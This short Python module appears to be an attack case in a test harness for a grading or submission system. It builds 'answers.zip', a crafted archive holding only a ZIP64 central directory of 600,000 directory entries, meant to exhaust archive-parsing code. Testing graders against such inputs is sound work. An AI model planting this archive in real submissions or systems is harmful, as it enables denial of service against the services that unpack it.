"""An archive of nothing but a directory with 600,000 entries."""

import struct

SET_ASIDE = "entries"
WRITES = True


def attack(notebook, folder, school):
    head = b"PK\x01\x02" + struct.pack("<6H3I5H2I", 20, 20, 0, 0, 0, 0, 0, 0, 0, 6, 0, 0, 0, 0, 0x10, 0)
    entries = b"".join(head + b"%05x/" % i for i in range(600_000))
    end = b"PK\x06\x06" + struct.pack("<Q2H2I4Q", 44, 45, 45, 0, 0, 600_000, 600_000, len(entries), 0)
    end += b"PK\x06\x07" + struct.pack("<IQI", 0, len(entries), 1)
    end += b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    (folder / "answers.zip").write_bytes(entries + end)
